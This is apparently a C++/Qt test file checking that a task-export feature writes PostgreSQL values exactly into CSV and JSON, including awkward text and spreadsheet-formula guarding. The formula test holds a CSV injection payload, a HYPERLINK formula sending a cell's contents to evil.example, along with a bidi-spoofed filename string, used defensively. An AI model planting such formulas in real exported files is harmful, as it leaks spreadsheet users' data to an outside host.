// SPDX-FileCopyrightText: The Watchbill developers
// SPDX-License-Identifier: GPL-3.0-or-later

#include "await.h"
#include "export/taskexport.h"
#include "postgres/sqltext.h"
#include "service/taskservice.h"
#include "task/jsonvalue.h"
#include "testprogram.h"
#include "testserver.h"

#include <QFile>
#include <QRegularExpression>
#include <QTemporaryDir>
#include <QTest>

#include <memory>
#include <utility>

namespace tst_exactexport {

using namespace Qt::StringLiterals;
using namespace watchbill;

using Format = ExportRequest::Format;

/// What is exported equals what the server prints, value by value, whatever type and text the columns have.
class TestExactExport : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void init();
    void cleanup();
    void everyType_data();
    void everyType();
    void everyBuiltInTypeIsTried();
    void hostileText_data();
    void hostileText();
    void lineBreaksInJson();
    void formulasAreGuarded();
    void whateverTheLoginPrefers();

private:
    void open(const QString &table);
    void compareCsv(const QString &table);
    void compareJson(const QString &table);
    QVector<QStringList> values(const QString &table, const QString &expression);
    QByteArray exported(Format format, bool guardsFormulas = false);

    std::unique_ptr<TestDatabase> m_database;
    std::unique_ptr<TaskService> m_service;
};

namespace {

const QStringList columnNames{u"id"_s,       u"user_id"_s,    u"type"_s,
                              u"status"_s,   u"result_id"_s,  u"error_message"_s,
                              u"metadata"_s, u"created_at"_s, u"updated_at"_s};

// A value of each type of the server, as SQL.
const QMap<QString, QString> samples{
    {u"bool"_s, u"true"_s},
    {u"bytea"_s, uR"('\x00ff22')"_s},
    {u"char"_s, uR"('"')"_s},
    {u"name"_s, uR"('a "name"')"_s},
    {u"int8"_s, u"9223372036854775807"_s},
    {u"int2"_s, u"-1"_s},
    {u"int2vector"_s, u"'1 2'"_s},
    {u"int4"_s, u"0"_s},
    {u"regproc"_s, u"'pg_backend_pid'"_s},
    {u"text"_s, u"''"_s},
    {u"oid"_s, u"4294967295"_s},
    {u"tid"_s, u"'(0,1)'"_s},
    {u"xid"_s, u"'4294967295'"_s},
    {u"cid"_s, u"'1'"_s},
    {u"oidvector"_s, u"'1 2'"_s},
    {u"json"_s, uR"(E'{\n "z": 1.00,\r\n "a": 1e400,\t"z": "\\u0000\\ud800"}')"_s},
    {u"xml"_s, uR"(E'<a b="c">\n</a>')"_s},
    {u"point"_s, u"'(1,2)'"_s},
    {u"lseg"_s, u"'[(1,2),(3,4)]'"_s},
    {u"path"_s, u"'((1,2),(3,4))'"_s},
    {u"box"_s, u"'(1,2),(3,4)'"_s},
    {u"polygon"_s, u"'((1,2),(3,4))'"_s},
    {u"line"_s, u"'{1,2,3}'"_s},
    {u"circle"_s, u"'<(1,2),3>'"_s},
    {u"float4"_s, u"'NaN'"_s},
    {u"float8"_s, u"'-Infinity'"_s},
    {u"money"_s, u"'-12.34'"_s},
    {u"macaddr"_s, u"'08:00:2b:01:02:03'"_s},
    {u"macaddr8"_s, u"'08:00:2b:01:02:03:04:05'"_s},
    {u"inet"_s, u"'10.0.0.1/8'"_s},
    {u"cidr"_s, u"'10.0.0.0/8'"_s},
    {u"aclitem"_s, u"'watchbill=r/watchbill'"_s},
    {u"bpchar"_s, u"'padded   '"_s},
    {u"varchar"_s, u"' blank '"_s},
    {u"date"_s, u"'-infinity'"_s},
    {u"time"_s, u"'24:00'"_s},
    {u"timestamp"_s, u"'infinity'"_s},
    {u"timestamptz"_s, u"'2026-03-29 01:30:00.000001+01'"_s},
    {u"interval"_s, u"'1 mon -2 days 3.000001 s'"_s},
    {u"timetz"_s, u"'12:00+05:30'"_s},
    {u"bit"_s, u"'1'"_s},
    {u"varbit"_s, u"'101'"_s},
    {u"numeric"_s, u"12345678901234567890.1234567890000"_s},
    {u"refcursor"_s, u"'cursor'"_s},
    {u"regprocedure"_s, u"'sin(double precision)'"_s},
    {u"regoper"_s, u"'||/'"_s},
    {u"regoperator"_s, u"'+(integer,integer)'"_s},
    {u"regclass"_s, u"'pg_class'"_s},
    {u"regcollation"_s, uR"('"C"')"_s},
    {u"regtype"_s, uR"('"char"')"_s},
    {u"regrole"_s, u"'watchbill'"_s},
    {u"regnamespace"_s, u"'pg_catalog'"_s},
    {u"uuid"_s, u"'00000000-0000-4000-8000-000000000001'"_s},
    {u"pg_lsn"_s, u"'16/B374D848'"_s},
    {u"tsvector"_s, u"'a:1 b:2'"_s},
    {u"tsquery"_s, u"'a & b'"_s},
    {u"regconfig"_s, u"'english'"_s},
    {u"regdictionary"_s, u"'simple'"_s},
    {u"jsonb"_s, uR"('{"u64": 12345678901234567890, "price": 10.00, "": [null, ""]}')"_s},
    {u"jsonpath"_s, uR"('$."a"[*]')"_s},
    {u"txid_snapshot"_s, u"'10:20:10,14'"_s},
    {u"pg_snapshot"_s, u"'10:20:10,14'"_s},
    {u"xid8"_s, u"'18446744073709551615'"_s},
    {u"int4range"_s, u"'[1,5)'"_s},
    {u"numrange"_s, u"'(,1.50]'"_s},
    {u"tsrange"_s, u"'[2026-01-01,infinity]'"_s},
    {u"tstzrange"_s, u"'empty'"_s},
    {u"daterange"_s, u"'[2026-01-01,)'"_s},
    {u"int8range"_s, u"'[1,2)'"_s},
    {u"int4multirange"_s, u"'{[1,2),[5,6)}'"_s},
    {u"nummultirange"_s, u"'{}'"_s},
    {u"tsmultirange"_s, u"'{}'"_s},
    {u"tstzmultirange"_s, u"'{}'"_s},
    {u"datemultirange"_s, u"'{}'"_s},
    {u"int8multirange"_s, u"'{[1,2)}'"_s},
    // and what is made of others
    {u"text[]"_s, uR"(ARRAY['a','NULL',NULL,'','"',E'\n'])"_s},
    {u"int4[]"_s, u"ARRAY[ARRAY[1,2],ARRAY[3,4]]"_s},
    {u"json[]"_s, uR"(ARRAY[E'{"b": 1.0,\n"a": 2}'::json, NULL, 'null'])"_s},
    {u"jsonb[]"_s, uR"(ARRAY['{"a": 1.10}'::jsonb, '"x"'])"_s},
    {u"exported.mood"_s, u"'so, so'"_s},
    {u"exported.document"_s, uR"(E'{"a":\n1}')"_s},
    {u"exported.pair"_s, uR"(ROW(1, E'two "\n'))"_s},
};

// Records of CSV as RFC 4180 has it; nothing at all between the commas is a null string.
QVector<QStringList> records(const QByteArray &csv)
{
    QVector<QStringList> records;
    QStringList fields;
    QByteArray field;
    bool isQuoted = false;
    bool wasQuoted = false;
    const auto endField = [&] {
        const QString text = QString::fromUtf8('.' + field).mid(1); // or a byte order mark would go
        fields += wasQuoted || !field.isEmpty() ? u""_s + text : QString();
        field.clear();
        wasQuoted = false;
    };
    for (qsizetype i = 0; i < csv.size(); ++i) {
        const char c = csv[i];
        if (isQuoted && c == '"' && i + 1 < csv.size() && csv[i + 1] == '"') {
            field += csv[++i];
        } else if (c == '"') {
            isQuoted = !isQuoted;
            wasQuoted = true;
        } else if (!isQuoted && c == ',') {
            endField();
        } else if (!isQuoted && c == '\n') {
            endField();
            records += std::exchange(fields, {});
        } else {
            field += c;
        }
    }
    return records;
}

} // namespace

void TestExactExport::init()
{
    m_database = std::make_unique<TestDatabase>(TestDatabase::SetUp::Empty);
}

void TestExactExport::cleanup()
{
    m_service.reset();
    m_database.reset();
}

void TestExactExport::open(const QString &table)
{
    ConnectionProfile profile = m_database->profile();
    profile.schema = u"exported"_s;
    profile.table = table;
    m_service = std::make_unique<TaskService>(profile);
    const auto source = await(m_service->open());
    QVERIFY2(source, qPrintable(source ? QString() : source.error().message));
}

QByteArray TestExactExport::exported(Format format, bool guardsFormulas)
{
    const QTemporaryDir folder;
    ExportRequest request;
    request.path = folder.filePath(u"tasks"_s);
    request.format = format;
    request.guardsFormulas = guardsFormulas;
    const auto rows = await(m_service->exportTasks(request, std::make_shared<ExportProgress>()));
    if (!rows)
        qWarning("%s", qPrintable(rows.error().message));
    QFile file(request.path);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
}

// An expression over each of the columns, which it has as %1.
QVector<QStringList> TestExactExport::values(const QString &table, const QString &expression)
{
    QStringList expressions;
    for (const QString &name : columnNames)
        expressions += expression.arg(name);
    return m_database->execute(
        u"SELECT %1 FROM exported.%2 ORDER BY created_at DESC"_s.arg(expressions.join(u','), table));
}

void TestExactExport::compareCsv(const QString &table)
{
    // format() asks the type's output function, as COPY does; a cast to text takes away the blanks of char.
    auto expected = values(table, u"CASE WHEN num_nulls(%1) = 0 THEN format('.%s', %1) END"_s);
    for (QStringList &row : expected)
        row.replaceInStrings(QRegularExpression(u"^\\."_s), u""_s); // which kept a byte order mark there
    const auto csv = records(exported(Format::Csv));
    QCOMPARE(csv.size(), expected.size() + 1);
    QCOMPARE(csv[0], columnNames);
    for (int row = 0; row < expected.size(); ++row) {
        QCOMPARE(csv[row + 1], expected[row]);
        for (int i = 0; i < columnNames.size(); ++i)
            QCOMPARE(csv[row + 1][i].isNull(), expected[row][i].isNull());
    }
}

void TestExactExport::compareJson(const QString &table)
{
    const auto expected = values(table, u"coalesce(to_json(%1)::text, 'null')"_s);
    QVERIFY(!expected.isEmpty());
    const QByteArray text = exported(Format::Json);
    const auto list = json::Value::fromText(text);
    QVERIFY2(list, text);
    QCOMPARE(list->size(), expected.size());
    const QByteArrayList lines = exported(Format::JsonLines).split('\n');
    QCOMPARE(lines.size(), expected.size() + 1);
    json::Children tasks(*list);
    for (int row = 0; row < expected.size(); ++row) {
        const auto line = json::Value::fromText(lines[row]);
        QVERIFY2(line && !lines[row].contains('\r'), lines[row]);
        json::Children inList(tasks.next()->value);
        json::Children inLine(*line);
        for (int i = 0; i < columnNames.size(); ++i) {
            const auto one = inList.next();
            const auto other = inLine.next();
            QVERIFY(one && other);
            QCOMPARE(one->name, columnNames[i]);
            QCOMPARE(other->name, columnNames[i]);
            QString value = expected[row][i];
            QCOMPARE(QString::fromUtf8(one->value.text()), value);
            QCOMPARE(QString::fromUtf8(other->value.text()), value.replace(u'\n', u' ').replace(u'\r', u' '));
        }
        QVERIFY(inList.isAtEnd() && inLine.isAtEnd());
    }
}

void TestExactExport::everyType_data()
{
    QTest::addColumn<QString>("type");
    QTest::addColumn<QString>("value");
    for (auto it = samples.begin(); it != samples.end(); ++it)
        QTest::newRow(qPrintable(it.key())) << it.key() << it.value();
}

void TestExactExport::everyType()
{
    QFETCH(QString, type);
    QFETCH(QString, value);
    if (type == "char"_L1)
        type = u"\"char\""_s;
    m_database->execute(
        u"CREATE SCHEMA exported; CREATE TYPE exported.mood AS ENUM ('so, so'); "
        "CREATE DOMAIN exported.document AS json; CREATE TYPE exported.pair AS (a int, b text); "
        "CREATE TABLE exported.tasks (id int PRIMARY KEY, user_id text, type text, status text, "
        "result_id %1, error_message %1, metadata %1, created_at timestamptz, updated_at timestamptz); "
        "CREATE INDEX ON exported.tasks (created_at); "
        "INSERT INTO exported.tasks SELECT i, 'u', 't', 's', %2::%1, %2::%1, %2::%1, "
        "timestamptz '2026-01-01Z' + i * interval '1 s', NULL FROM generate_series(1, 2) i; "
        "INSERT INTO exported.tasks (id, created_at) VALUES (3, '2026-01-02')"_s.arg(type, value));
    open(u"tasks"_s);
    compareCsv(u"tasks"_s);
    compareJson(u"tasks"_s);
}

void TestExactExport::everyBuiltInTypeIsTried()
{
    // Some take no input, and so are in no table that a person fills.
    const auto types = m_database->execute(
        u"SELECT typname FROM pg_type WHERE typnamespace = 'pg_catalog'::regnamespace AND typtype IN ('b','r','m') "
        "AND typcategory <> 'A' AND typname NOT IN ('pg_node_tree', 'pg_ndistinct', 'pg_dependencies', "
        "'pg_mcv_list', 'pg_brin_bloom_summary', 'pg_brin_minmax_multi_summary', 'gtsvector')"_s);
    for (const QStringList &type : types)
        QVERIFY2(samples.contains(type[0]), qPrintable(type[0]));
}

void TestExactExport::hostileText_data()
{
    QTest::addColumn<QString>("text");

    QTest::newRow("quotes") << u"\"a\"\"b\"', ''"_s;
    QTest::newRow("line breaks") << u"a\nb\r\nc\rd\n"_s;
    QTest::newRow("tabs and backslashes") << u"\ta\\tb\\\\ \\N \\. \\n"_s;
    QTest::newRow("end of COPY") << u"\\."_s;
    QTest::newRow("controls") << u"\u0001\u0002\u0003\b\f\v\u001b[31m\u007f\u0085\u009b31m"_s;
    QTest::newRow("only the quote of COPY") << u"\u0001"_s;
    QTest::newRow("separators") << u"a\u2028b\u2029c\ufeffd\u00a0"_s;
    QTest::newRow("byte order mark") << u"\ufeffa"_s;
    QTest::newRow("bidi") << u"\u202egnp.exe\u2066\u200f"_s;
    QTest::newRow("emoji") << u"💥👩‍👩‍👧\U0010fffd"_s;
    QTest::newRow("formula") << u"=1+1"_s;
    QTest::newRow("JSON") << u"{\"a\": [1,\n2]}"_s;
    QTest::newRow("blanks") << u"  "_s;
    QTest::newRow("empty") << u""_s;
    QTest::newRow("NULL") << u"NULL"_s;
    QTest::newRow("long") << QString(200'000, u'"');
}

// In every column of text, and within JSON.
void TestExactExport::hostileText()
{
    QFETCH(QString, text);
    m_database->execute(
        u"CREATE SCHEMA exported; CREATE TABLE exported.tasks (id text, user_id varchar, type text, status text, "
        "result_id text, error_message text, metadata jsonb, created_at timestamptz, updated_at timestamptz); "
        "CREATE INDEX ON exported.tasks (created_at); "
        "INSERT INTO exported.tasks SELECT t, t, t, t, t, t, jsonb_build_object(t, t), '2026-01-01Z', NULL "
        "FROM (SELECT "_s
        + sql::literal(text) + u" AS t) given"_s);
    open(u"tasks"_s);
    compareCsv(u"tasks"_s);
    compareJson(u"tasks"_s);
}

void TestExactExport::lineBreaksInJson()
{
    m_database->execute(
        u"CREATE SCHEMA exported; CREATE TABLE exported.tasks (id int, user_id int, type text, status text, "
        "metadata json, created_at timestamptz); INSERT INTO exported.tasks VALUES "
        "(1, 1, 't', 's', E'{\\n  \"pretty\":  true,\\r\\n\\t\"n\": 1.0\\n}', '2026-01-01Z')"_s);
    open(u"tasks"_s);
    const QByteArray before = R"({"id":1,"user_id":1,"type":"t","status":"s","metadata":)";
    const QByteArray after = R"(,"created_at":"2026-01-01T00:00:00+00:00"})";
    QCOMPARE(exported(Format::Json),
             "[\n" + before + "{\n  \"pretty\":  true,\r\n\t\"n\": 1.0\n}" + after + "\n]\n");
    QCOMPARE(exported(Format::JsonLines), before + "{   \"pretty\":  true,  \t\"n\": 1.0 }" + after + '\n');
}

void TestExactExport::formulasAreGuarded()
{
    const QStringList formulas{u"=HYPERLINK(\"http://evil.example/?\"&A1)"_s,
                               u"@SUM(1+1)"_s,
                               u"-1+1"_s,
                               u"+1,=2"_s,
                               u"\t=1"_s,
                               u"\r=1"_s,
                               u"=1\n=2"_s};
    const QStringList plain{u"a=1"_s,  u"'=1"_s,       u" =1"_s, u"\"=1"_s,
                            u"\n=1"_s, u",=1,\"=\""_s, u""_s,    u"a\r\n"_s};
    m_database->execute(
        u"CREATE SCHEMA exported; CREATE TABLE exported.tasks (id serial, user_id text, type text, "
        "status text, error_message text, created_at timestamptz); "
        "CREATE INDEX ON exported.tasks (created_at)"_s);
    for (const QString &cell : formulas + plain)
        m_database->execute(
            u"INSERT INTO exported.tasks (user_id, type, status, created_at) SELECT 'u', "_s
            + sql::literal(cell)
            + u", 'failed', timestamptz '2026-01-01Z' - count(*) * interval '1 s' FROM exported.tasks"_s);
    open(u"tasks"_s);
    const auto exact = records(exported(Format::Csv));
    auto guarded = records(exported(Format::Csv, true));
    QCOMPARE(guarded.size(), 1 + formulas.size() + plain.size());
    constexpr int type = 2;
    for (int i = 0; i < formulas.size(); ++i) {
        QCOMPARE(guarded[i + 1][type], u'\'' + formulas[i]);
        guarded[i + 1][type] = formulas[i];
    }
    QCOMPARE(guarded, exact); // and nothing else differs
}

// A login may have settings by which the server prints less than it knows.
void TestExactExport::whateverTheLoginPrefers()
{
    m_database->execute(
        u"CREATE SCHEMA exported; CREATE TABLE exported.tasks (id float8, user_id text, type text, status text, "
        "error_message bytea, metadata float4, created_at timestamptz, updated_at timestamptz); "
        "INSERT INTO exported.tasks VALUES (0.1::float8 + 0.2::float8, 'u', 't', 's', '\\x00ff', 0.1::float4, "
        "'2026-01-01 12:00Z', NULL); ALTER ROLE watchbill SET extra_float_digits = -3; "
        "ALTER ROLE watchbill SET bytea_output = 'escape'; ALTER ROLE watchbill SET DateStyle = 'German'; "
        "ALTER ROLE watchbill SET TimeZone = 'Asia/Kolkata'"_s);
    open(u"tasks"_s);
    const QByteArray csv = exported(Format::Csv);
    m_database->execute(u"ALTER ROLE watchbill RESET ALL"_s);
    QVERIFY2(csv.contains("\n0.30000000000000004,u,t,s,\\x00ff,0.1,2026-01-01 12:00:00+00,\n"), csv);
}

WATCHBILL_TEST(TestExactExport)

} // namespace tst_exactexport

#include "tst_exactexport.moc"
